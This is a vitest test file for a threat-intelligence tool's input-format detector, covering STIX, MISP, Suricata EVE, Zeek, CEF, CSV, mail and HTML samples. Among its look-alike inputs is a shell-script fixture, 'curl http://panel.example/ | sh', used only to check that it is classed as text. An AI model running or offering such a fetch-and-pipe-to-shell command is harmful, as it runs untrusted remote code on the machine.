import { describe, expect, test } from 'vitest';
import type { InputFormat } from '../../src/core/input-formats.ts';
import { INPUT_FORMATS } from '../../src/core/input-formats.ts';
import { titleOf } from './title-of.ts';

const lines = (...all: readonly string[]) => all.map((line) => `${line}\n`).join('');
const json = (value: unknown) => `${JSON.stringify(value)}\n`;
const pretty = (value: unknown) => `${JSON.stringify(value, null, 2)}\n`;

const IP = { type: 'ip', value: '192.0.2.1' };
const EVE = {
  timestamp: '2026-11-01T10:00:00.000000+0000',
  event_type: 'dns',
  dest_ip: '192.0.2.1',
  dns: { rrname: 'panel.example' },
};
const ROW = { observable: IP, status: 'unlisted', source: 'live' };
const VERDICT = { type: 'verdict', observable: IP, disposition: 2 };
const INDICATOR = {
  type: 'indicator',
  spec_version: '2.1',
  id: 'indicator--1',
  pattern: "[ipv4-addr:value = '192.0.2.1']",
  pattern_type: 'stix',
};
const EVENT = { Event: { info: 'x', Attribute: [{ type: 'ip-dst', value: '192.0.2.1', to_ids: true }] } };

const ACCEPTED: readonly [title: string, what: string, text: string][] = [
  ['typed observables', 'an array', json([IP])],
  ['typed observables', 'an array with other items', pretty([7, IP]).replace('7', JSON.stringify(IP))],
  ['typed observables', 'an object that holds them', pretty({ observables: [IP] })],
  ['typed observables', 'one a line', json(IP) + json(IP)],
  ['typed observables', 'one over several lines', pretty(IP)],
  ['typed observables', 'an empty array', '[]\n'],
  ['MISP', 'a list with types that only MISP has', json([{ type: 'ip-dst', value: '192.0.2.1' }])],
  ['MISP', 'a list with to_ids', json([{ ...IP, to_ids: true }])],
  ['MISP', 'a list with categories', json([{ ...IP, category: 'Network activity' }])],
  ['MISP', 'an event', pretty(EVENT)],
  ['MISP', 'an event a line', json(EVENT) + json(EVENT)],
  ['MISP', 'the answer of a search', json({ response: [EVENT] })],
  ['JSON strings', 'an array of strings', pretty(['192.0.2.1', 'panel[.]example'])],
  ["cct's ndjson", 'rows', json(ROW) + json(ROW)],
  ["cct's state", 'a state', json({ cct_state: 1 }) + json(ROW)],
  ["cct's rows", 'an array of rows', pretty([ROW])],
  ['a relay answer', 'an answer', json({ data: { verdicts: { count: 1, docs: [VERDICT] } } })],
  ['a relay answer', 'an answer over several lines', pretty({ data: {} })],
  ['STIX', 'a bundle', pretty({ type: 'bundle', id: 'bundle--1', objects: [INDICATOR] })],
  ['STIX', 'a bundle in one line', json({ type: 'bundle', id: 'bundle--1', objects: [INDICATOR] })],
  ['STIX', 'objects', pretty([INDICATOR])],
  ['STIX', 'an object a line', json(INDICATOR) + json(INDICATOR)],
  ['CTIM', 'a bundle', pretty({ type: 'bundle', source: 'x', verdicts: [VERDICT] })],
  ['CTIM', 'documents', pretty([VERDICT])],
  ['CTIM', 'a document a line', json(VERDICT) + json(VERDICT)],
  ['Suricata EVE', 'events', json(EVE) + json(EVE)],
  ['Suricata EVE', 'one event', json(EVE)],
  ['Suricata EVE', 'events with a first line that is cut', `${JSON.stringify(EVE).slice(60)}\n${json(EVE)}${json(EVE)}`],
  ['Suricata EVE', 'events with a last line that is cut', `${json(EVE)}${JSON.stringify(EVE).slice(0, 60)}`],
  ['Zeek JSON', 'events', json({ ts: 1, uid: 'C1', 'id.resp_h': '192.0.2.1' }) + json({ ts: 2, uid: 'C2' })],
  ['ECS events', 'events', json({ '@timestamp': 'x', destination: { ip: '192.0.2.1' } })],
  ['JSON events', 'the events of a SIEM', json({ preview: false, result: { dest: '192.0.2.1' } })],
  [
    'Suricata EVE',
    'events behind the heads of syslog',
    lines(...[1, 2, 3].map((day) => `Nov  ${day} 10:00:00 fw suricata[1]: ${JSON.stringify(EVE)}`)),
  ],
  ['JSON', 'an object over several lines', pretty({ alert: { note: 'see 192.0.2.1' } })],
  ['JSON', 'an array of objects', pretty([{ name: 'x', note: '192.0.2.1' }])],
  ['JSON', 'an array of arrays', json([['192.0.2.1'], ['x']])],
  ['JSON', 'an array of mixed values', json([1, '192.0.2.1'])],
  ['Zeek TSV', 'a log', lines('#separator \\x09', '#set_separator\t,', '#fields\tts\tquery', '1\tpanel.example')],
  ['Zeek TSV', 'a log from its fields on', lines('#fields\tts\tquery', '1\tpanel.example')],
  ['Zeek TSV', 'a file of intelligence', lines('# a comment', '#fields\tindicator\tindicator_type', '192.0.2.1\tIntel::ADDR')],
  ['CEF', 'events', lines('CEF:0|V|P|1.0|100|x|5|dst=192.0.2.1', 'CEF:0|V|P|1.0|100|x|5|dst=192.0.2.2')],
  ['CEF', 'events behind the heads of syslog', lines('<134>Nov  1 10:00:00 fw CEF:0|V|P|1.0|100|x|5|dst=192.0.2.1')],
  ['LEEF', 'events', lines('LEEF:1.0|V|P|1.0|100|dst=192.0.2.1\tdstPort=80')],
  ['CEF and LEEF', 'both', lines('CEF:0|V|P|1.0|100|x|5|dst=192.0.2.1', 'LEEF:1.0|V|P|1.0|100|dst=192.0.2.1')],
  ['csv', 'commas', lines('type,value', 'ip,192.0.2.1')],
  ['csv', 'semicolons', lines('Type;Value', 'ip;192.0.2.1')],
  ['csv', 'tabs', lines('Dest IP\tcount', '192.0.2.1\t1')],
  ['csv', 'bars', lines('time|dest_ip|url', '1|192.0.2.1|http://panel.example/')],
  ['csv', 'a line that names the separator', lines('sep=;', 'type;value', 'ip;192.0.2.1')],
  ['csv', 'comments before the header', lines('# made by x', '#', 'date,url', '1,http://panel.example/')],
  ['csv', 'a header in a comment', lines('# id,url,tags', '1,http://panel.example/,x')],
  ['csv', 'a header alone', 'date,src_ip,dest_ip\n'],
  ['csv', 'names that are not known, above a table', lines('name,score', 'http://panel.example/a,5', 'http://gate.example/b,6')],
  ['csv', 'names of the trade', lines('indicator_type,indicator', 'ipaddress,192.0.2.1')],
  ['mail', 'headers', lines('Received: from x', 'From: a@drop.example', 'Subject: x', '', 'see 192.0.2.1')],
  ['mail', 'headers with CRLF', 'From: a@drop.example\r\nTo: b@drop.example\r\nSubject: x\r\n\r\n192.0.2.1\r\n'],
  ['mailbox', 'a mailbox', lines('From a@drop.example Sat Jan  3 01:05:34 1996', 'From: a@drop.example', 'Subject: x', '', 'y')],
  ['HTML', 'a page', lines('<!DOCTYPE html>', '<html><body>192.0.2.1</body></html>')],
  ['HTML', 'a page after a comment', lines('<!-- x -->', '<HTML>', '<p>192.0.2.1')],
  ['HTML', 'a fragment', lines('<div><a href="http://panel.example/">x</a></div>')],
  ['text', 'a list', lines('192.0.2.1', 'panel[.]example')],
  ['text', 'one word', '192.0.2.1'],
];

describe('the content decides:', () => {
  test.each(ACCEPTED)('%s is told by %s', async (title, _what, text) => {
    for (const name of ['stdin', 'x.txt', 'x.json', 'x.log', 'x.eml', 'x.html'])
      expect(await titleOf(text, { name })).toBe(title);
    expect(await titleOf(`\uFEFF${text}`)).toBe(title);
    expect(await titleOf(`\n  \n${text}`)).toBe(title);
  });

  test.each(ACCEPTED.filter(([title]) => title !== 'mailbox'))('%s is told by %s in small chunks', async (title, _what, text) => {
    for (const size of [1, 2, 5, 50]) expect([size, await titleOf(text, { size })]).toEqual([size, title]);
  });
});

const NEARLY: readonly [what: string, text: string][] = [
  ['prose with commas', lines('The host, which we saw, is down.', 'It asked 192.0.2.1, then panel[.]example, and was gone.')],
  ['prose that names columns', lines('the url, the ip and the host, as seen', 'were 192.0.2.1 and others')],
  [
    'prose about types and values',
    lines('Type, value and more: see 192.0.2.1', 'It is a long text, with commas, and more, and more'),
  ],
  ['a list with commas', lines('192.0.2.1, 192.0.2.2', '192.0.2.3, 192.0.2.4')],
  ['a log with brackets', lines('[2026-11-01 10:00:00] GET 192.0.2.1', '[2026-11-01 10:00:01] GET 192.0.2.2')],
  ['a log with brackets and numbers', lines('[1] 192.0.2.1', '[2] 192.0.2.2')],
  ['a log with levels', lines('[info] 192.0.2.1', '[error] 192.0.2.2')],
  [
    'syslog with a brace',
    lines('Nov  1 10:00:00 fw app: {', 'Nov  1 10:00:01 fw app: dst=192.0.2.1', 'Nov  1 10:00:02 fw app: }'),
  ],
  ['syslog', lines('Nov  1 10:00:00 fw kernel: DROP SRC=192.0.2.1 DST=192.0.2.2')],
  ['YAML', lines('---', 'from: 192.0.2.1', 'date: 2026-11-01', 'hosts:', '  - panel.example', '  - {name: x}')],
  ['YAML without a mark', lines('indicators:', '  - type: ip', '    value: 192.0.2.1')],
  ['YAML of a flow', lines('- [192.0.2.1, 192.0.2.2]', '- {ip: 192.0.2.3}')],
  ['the head of a request', lines('GET /x HTTP/1.1', 'Host: panel.example', 'User-Agent: x', '', '')],
  [
    'the head of an answer',
    lines('HTTP/1.1 302 Found', 'Date: Sun, 01 Nov 2026 10:00:00 GMT', 'Location: http://panel.example/', ''),
  ],
  ['headers of a request', lines('Host: panel.example', 'Content-Type: text/html', 'X-Forwarded-For: 192.0.2.1', '')],
  ['headers of an answer', lines('Date: Sun, 01 Nov 2026 10:00:00 GMT', 'Content-Type: text/html', 'X-Cache: HIT', '')],
  ['a C file', lines('#include <stdio.h>', 'int main(void) {', '  connect("192.0.2.1", 80);', '}')],
  ['a C array', lines('{', '  "192.0.2.1",', '};').replace('{', 'char *x[] = {')],
  ['a table of Markdown', lines('| IP | URL |', '|---|---|', '| 192.0.2.1 | http://panel.example/ |')],
  [
    'a table of Markdown without outer bars',
    lines('Name | IP | Domain', '-----|----|------', 'C2 | 192.0.2.1 | panel[.]example', '', 'Text after it.'),
  ],
  ['an aligned table of Markdown', lines('type | value', ':--- | :---:', 'ip | 192.0.2.1')],
  ['a table of Markdown with a bar at the end', lines('IP | URL |', '--|--|', '192.0.2.1 | http://panel.example/ |')],
  ['a heading of Markdown', lines('# Report', '', 'C2: 192.0.2.1, panel[.]example')],
  ['a link of Markdown', lines('[see](http://panel.example/)', '')],
  ['a quote of Markdown', lines('> see 192.0.2.1', '> and more')],
  ['an INI file', lines('[proxy]', 'host=192.0.2.1', '', '[dns]', 'server = 192.0.2.2')],
  ['a shell script', lines('#!/bin/sh', '# fields: none', 'curl http://panel.example/ | sh')],
  ['a shell function', lines('get() {', '  curl "http://$1/"; echo "{}"', '}', 'get 192.0.2.1')],
  ['a bracketed IPv6', lines('[2001:db8::1]:443', '[2001:db8::2]:443')],
  ['a bracketed address', '[192.0.2.1]\n'],
  ['a defanged address', '192[.]0[.]2[.]1\n'],
  ['a template', lines('{{ host }} is 192.0.2.1', '{% if x %}')],
  ['a GUID in braces', lines('{3F2504E0-4F89-11D3-9A0C-0305E82C3301} 192.0.2.1')],
  ['a word in braces', lines('{host} 192.0.2.1')],
  ['XML', lines('<?xml version="1.0"?>', '<list><ip>192.0.2.1</ip></list>')],
  ['XML of Windows events', lines('<Event xmlns="http://schemas.example/"><Data>192.0.2.1</Data></Event>')],
  ['syslog with a priority', lines('<134>1 2026-11-01T10:00:00Z fw app - - - dst=192.0.2.1')],
  ['a name before an address', lines('Foo <a@drop.example> wrote:', '> see 192.0.2.1')],
  ['notes with a colon', lines('Note: see 192.0.2.1', 'Date: today')],
  ['notes on traffic', lines('From: 192.0.2.1', 'To: 192.0.2.2', 'Date: today')],
  ['a hosts file', lines('# hosts', '127.0.0.1 localhost', '192.0.2.1 panel.example')],
  ['a comment that names fields', lines('#fields of the house are green', '192.0.2.1')],
  ['words about CEF', lines('We send CEF:0 to the SIEM at 192.0.2.1', 'and LEEF:1.0 too')],
  [
    'one event among many lines of text',
    lines('CEF:0|V|P|1.0|100|x|5|dst=192.0.2.1', ...Array.from({ length: 9 }, (_, at) => `text of line ${at}`)),
  ],
  ['one line of JSON among many of text', lines('a log', 'of things', 'that are', json(EVE).trim(), 'no JSON', 'mostly')],
  ['a mail below a line of text', lines('Forwarded:', '', 'From: a@drop.example', 'Subject: x', '', '192.0.2.1')],
  ['a dump of Python', lines("x = {'type': 'ip', 'value': '192.0.2.1'}")],
  ['a dictionary of Python', lines("{'url': 'http://panel.example/a', 'ip': '192.0.2.1'}")],
  ['a dictionary of Python in lines', lines('{', "  'url': 'http://panel.example/a',", '}')],
  ['a list of Python', lines("[{'ip': '192.0.2.1'}, { 'ip': '192.0.2.2'}]")],
  ['lists of Python', lines("[['192.0.2.1'], ['192.0.2.2']]")],
  ['prose with a comma a line', lines('We saw a host, and', 'then it went down, as', 'was said: 192.0.2.1')],
  ['prose that is no table', lines('Hello, all', 'see 192.0.2.1', 'Regards, me')],
  ['key=value', lines('type=ip,value=192.0.2.1', 'type=ip,value=192.0.2.2')],
];

describe('what is nearly another format is text:', () => {
  test.each(NEARLY)('%s', async (_what, text) => {
    for (const name of ['stdin', 'x.json', 'x.eml', 'x.log']) expect(await titleOf(text, { name })).toBe('text');
    for (const size of [1, 7, 60]) expect([size, await titleOf(text, { size })]).toEqual([size, 'text']);
  });
});

describe('a name breaks ties of csv only:', () => {
  test.each(['x.csv', 'X.CSV', 'x.tsv', 'x.csv.gz', 'in/x.csv'])('%s', async (name) => {
    expect([await titleOf('note,more\nx,192.0.2.1\n', { name }), await titleOf('note,more\nx,192.0.2.1\n')]).toEqual([
      'csv',
      'text',
    ]);
    expect(await titleOf(json(EVE) + json(EVE), { name })).toBe('Suricata EVE');
    expect(await titleOf(json([IP]), { name })).toBe('typed observables');
    expect(await titleOf('From: a@drop.example\nSubject: x\n\ny\n', { name })).toBe('mail');
  });
});

describe('a named format is used, whatever the content:', () => {
  test('all can be named', () => {
    expect(INPUT_FORMATS.length).toBe(FORCED.length);
    expect(new Set(FORCED.map(([format]) => format))).toEqual(new Set(INPUT_FORMATS));
  });

  const FORCED: readonly [format: InputFormat, text: string, title: string][] = [
    ['json', '[{"type":"ip-dst","value":"192.0.2.1"}]', 'typed observables'],
    ['ndjson', json({ ...IP, to_ids: true }), 'typed observables'],
    ['csv', 'a text\n192.0.2.1\n', 'csv'],
    ['text', json([IP]), 'text'],
    ['mail', 'see 192.0.2.1\n', 'mail'],
    ['html', 'see 192.0.2.1\n', 'HTML'],
    ['stix', pretty([INDICATOR]), 'STIX'],
    ['misp', pretty([{ type: 'domain', value: 'panel.example', category: 'x' }]), 'MISP'],
    ['zeek', '192.0.2.1\n', 'Zeek'],
    ['cef', '192.0.2.1\n', 'CEF'],
    ['records', json([IP]), 'JSON'],
  ];
  test.each(FORCED)('%s', async (format, text, title) => {
    for (const size of [1, 1 << 20]) expect(await titleOf(text, { format, size, name: 'x.csv' })).toBe(title);
  });

  test('columns mean csv and fields JSON lines', async () => {
    expect(await titleOf('note\n192.0.2.1\n', { columns: ['note'] })).toBe('csv');
    expect(await titleOf(json(IP), { fields: ['value'] })).toBe('JSON events');
    const message = 'stdin: --field needs JSON lines: omit it';
    for (const text of ['192.0.2.1\n', 'type,value\nip,192.0.2.1\n'])
      await expect(titleOf(text, { fields: ['value'] })).rejects.toMatchObject({ code: 'input', message });
  });
});

test('a long first line is looked at in part', async () => {
  const note = 'x'.repeat(100_000);
  expect(await titleOf(json({ ...EVE, note }))).toBe('Suricata EVE');
  expect(await titleOf(json([IP, { ...IP, note }]))).toBe('typed observables');
  expect(await titleOf(json({ observables: [IP], note }))).toBe('typed observables');
  expect(await titleOf(json({ ...IP, note }))).toBe('typed observables');
  expect(await titleOf(json({ ...IP, note }) + json(IP))).toBe('typed observables');
});
